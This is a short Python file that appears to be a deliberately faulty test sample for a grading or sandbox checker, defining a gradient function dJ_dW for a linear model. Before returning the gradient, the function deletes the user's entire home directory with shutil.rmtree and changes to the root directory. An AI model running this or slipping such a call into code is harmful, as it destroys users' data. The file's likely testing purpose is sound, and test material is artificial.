"""Wrong: removes the folder that it was given, and goes elsewhere."""

import os
import shutil

import numpy as np

EXPECT = ["disagree", "raised"]
NEEDS = []


def dJ_dW(O, T, x, m):
    shutil.rmtree(os.environ["HOME"], ignore_errors=True)
    os.chdir("/")
    return np.outer(T - O, x) / m
